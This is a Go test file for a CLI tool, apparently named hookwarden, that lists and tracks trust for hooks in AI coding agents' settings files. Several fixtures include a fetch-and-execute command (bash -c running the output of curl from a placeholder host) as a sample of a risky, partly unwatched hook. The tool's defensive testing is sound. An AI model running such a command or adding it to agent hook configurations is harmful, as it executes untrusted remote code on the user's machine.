package cli

import (
	"bytes"
	"context"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/hookwarden/hookwarden/agents"
	"github.com/hookwarden/hookwarden/hooks"
	"github.com/hookwarden/hookwarden/risk"
)

// TestListJSONStreamedIsTheDocument: the streamed list (one hook at a
// time) is byte for byte what encoding the whole document at once writes,
// for every agent, with HTML characters, control characters, Unicode,
// an approved but partly unwatched hook, and a project without hooks.
func TestListJSONStreamedIsTheDocument(t *testing.T) {
	t.Parallel()
	hooksJSON := `{"hooks":{"BeforeTool":[{"matcher":"a<b>&c","hooks":[
		{"type":"command","name":"h\u2028<&>","command":"echo '<script>&amp;' \u202e x\u0007"},
		{"type":"command","name":"unwatched","command":"bash -c \"$(curl -s https://example.invalid)\""}]}],
		"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"echo <&> ü"}]}]}}`
	f := newFixture(t, map[string]string{
		"project/.gemini/settings.json": hooksJSON,
		"project/.claude/settings.json": hooksJSON,
		"project/.codex/hooks.json":     hooksJSON,
	})
	if _, errOut, code := f.run(t, "trust", "--accept-unwatched", "unwatched"); code != 0 {
		t.Fatalf("trust: exit %d: %s", code, errOut)
	}
	empty := newFixture(t, nil)
	for _, fx := range []*fixture{f, empty} {
		for _, agent := range testAgents().All() {
			io := &IO{Agents: testAgents(), Env: fx.env, Dir: fx.project, GOOS: "linux"}
			p, err := io.open(context.Background(), agent, "")
			if err != nil {
				t.Fatal(err)
			}
			var streamed, whole bytes.Buffer
			if err := writeListJSON(&streamed, io.agentEnv(), p, nil, agents.Observer{}, io.riskOptions()); err != nil {
				t.Fatal(err)
			}
			if err := writeJSON(&whole, materializedListDocument(p)); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(streamed.Bytes(), whole.Bytes()) {
				t.Errorf("%s: streamed list differs from the document:\n%s\nwant:\n%s", agent.Info().Name, streamed.String(), whole.String())
			}
			if fx == f && agent.Info().Name == "gemini" && !bytes.Contains(streamed.Bytes(), []byte(`"unwatched": [`)) {
				t.Errorf("gemini: the partly unwatched hook lost its trust state:\n%s", streamed.String())
			}
		}
	}
}

// materializedListDocument is the list document with every hook's object
// built before anything is written (as list --json did before it streamed).
func materializedListDocument(p agents.Project) agents.Document {
	all := p.Hooks()
	docs := make([]agents.Document, 0, len(all))
	states := reviewStates(context.Background(), p)
	opt := risk.Options{Cache: risk.NewCache(), Agents: testAgents().Facts().Risk()}
	for _, h := range all {
		docs = append(docs, unwatchedMembers(p.HookDocument(h).Fill(hookMembers(h, listedRisk(opt, p, h, p.Dir(), agents.Observer{}, states))), states.incomplete, h.ID))
	}
	return listDocument(p, docs, nil)
}

// TestTrustStatesAreTheReviews: every agent's TrustStates (what list reads
// the partly unwatched hooks from, without the risk analysis and texts)
// gives each hook the trust state its Review gives it: an approved but
// partly unwatched hook, a new one and a changed one.
func TestTrustStatesAreTheReviews(t *testing.T) {
	t.Parallel()
	hooksJSON := `{"hooks":{"BeforeTool":[{"matcher":"x","hooks":[
		{"type":"command","name":"plain","command":"bash hooks/a.sh"},
		{"type":"command","name":"unwatched","command":"bash -c \"$(curl -s https://example.invalid)\""}]}],
		"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"bash hooks/a.sh"},
		{"type":"command","command":"bash -c \"$(curl -s https://example.invalid)\""}]}]}}`
	f := newFixture(t, map[string]string{
		"project/.gemini/settings.json": hooksJSON,
		"project/.claude/settings.json": hooksJSON,
		"project/.codex/hooks.json":     hooksJSON,
		"project/hooks/a.sh":            "#!/bin/sh\necho a\n",
	})
	for _, agent := range testAgents().All() {
		name := agent.Info().Name
		f.run(t, "trust", "--agent", name, "--all", "--accept-unwatched")
	}
	writeFile(t, f.project+"/hooks/a.sh", "#!/bin/sh\necho changed\n", 0o755)
	unwatched := 0
	for _, agent := range testAgents().All() {
		io := &IO{Agents: testAgents(), Env: f.env, Dir: f.project, GOOS: "linux"}
		p, err := io.open(context.Background(), agent, "")
		if err != nil {
			t.Fatal(err)
		}
		r, err := p.Review(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		states, err := agents.TrustStates(context.Background(), p, nil)
		if err != nil {
			t.Fatal(err)
		}
		kept, err := agents.TrustStates(context.Background(), p, func(h *agents.HookReview) bool { return h.Unwatched() })
		if err != nil {
			t.Fatal(err)
		}
		var want []string
		for _, h := range r.Hooks {
			if h.Unwatched() {
				want = append(want, h.HookID)
			}
		}
		var got []string
		for _, h := range kept {
			got = append(got, h.HookID)
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: the partly unwatched trust states are %q, the review's %q", agent.Info().Name, got, want)
		}
		if len(states) != len(r.Hooks) {
			t.Fatalf("%s: %d trust states, %d reviewed hooks", agent.Info().Name, len(states), len(r.Hooks))
		}
		for i, s := range states {
			want := r.Hooks[i]
			if s.HookID != want.HookID || s.Status != want.Status || s.Label != want.Label || len(s.Unresolved) != len(want.Unresolved) || len(s.Scripts) != len(want.Scripts) {
				t.Errorf("%s: trust state %d is %s %s %q (%d unresolved), the review says %s %s %q (%d unresolved)", agent.Info().Name, i,
					s.HookID, s.Status, s.Label, len(s.Unresolved), want.HookID, want.Status, want.Label, len(want.Unresolved))
			}
			if s.Unwatched() {
				unwatched++
			}
		}
	}
	if unwatched < 3 {
		t.Errorf("only %d approved but partly unwatched hooks: the fixture does not test what it should", unwatched)
	}
}

// failingWriter fails every write, as a closed pipe does.
type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("closed pipe") }

// TestListJSONFailsWhenItsOutputFails: a list --json that could not be
// written is not a success.
func TestListJSONFailsWhenItsOutputFails(t *testing.T) {
	t.Parallel()
	f := newFixture(t, map[string]string{"project/.gemini/settings.json": `{"hooks":{"BeforeTool":[{"hooks":[{"type":"command","command":"true"}]}]}}`})
	var errOut bytes.Buffer
	io := &IO{Agents: testAgents(), Stdin: strings.NewReader(""), Stdout: failingWriter{}, Stderr: &errOut, Env: f.env, Dir: f.project, GOOS: "linux"}
	if code := Main(context.Background(), []string{"list", "--json"}, io); code == 0 {
		t.Errorf("list --json into a failing writer exits 0")
	}
}

// countingProject counts the hook documents list asks for and notes how
// many it had asked for when it asked for the diagnostics.
type countingProject struct {
	agents.Project
	docs, docsAtDiagnostics int
}

func (c *countingProject) HookDocument(h *hooks.Hook) agents.Document {
	c.docs++
	return c.Project.HookDocument(h)
}

func (c *countingProject) Diagnostics() []hooks.Diagnostic {
	c.docsAtDiagnostics = c.docs
	return c.Project.Diagnostics()
}

// TestListJSONGathersDiagnosticsWhenWritten: list --json gathers the
// project's diagnostics (one or more per hook in a large project) when it
// writes their member, after the hooks, not before it writes the first
// hook (which held them all while every hook was written: issue 28).
func TestListJSONGathersDiagnosticsWhenWritten(t *testing.T) {
	t.Parallel()
	f := newFixture(t, map[string]string{
		"project/.codex/hooks.json": `{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[
			{"type":"command","command":"echo a"},{"type":"command","command":"echo b"},{"type":"command","command":"echo c"}]}]}}`,
	})
	agent, _ := testAgents().Get("codex")
	io := &IO{Agents: testAgents(), Env: f.env, Dir: f.project, GOOS: "linux"}
	p, err := io.open(context.Background(), agent, "")
	if err != nil {
		t.Fatal(err)
	}
	c := &countingProject{Project: p}
	var out bytes.Buffer
	if err := writeListJSON(&out, io.agentEnv(), c, nil, agents.Observer{}, io.riskOptions()); err != nil {
		t.Fatal(err)
	}
	h, d := bytes.Index(out.Bytes(), []byte("\n  \"hooks\":")), bytes.Index(out.Bytes(), []byte("\n  \"diagnostics\":"))
	if h < 0 || d < h || len(p.Diagnostics()) == 0 {
		t.Fatalf("want a hooks member before a non-empty diagnostics member:\n%s", out.String())
	}
	if c.docs != 3 || c.docsAtDiagnostics != 3 {
		t.Errorf("diagnostics gathered after %d of %d hook documents, want after all 3", c.docsAtDiagnostics, c.docs)
	}
}
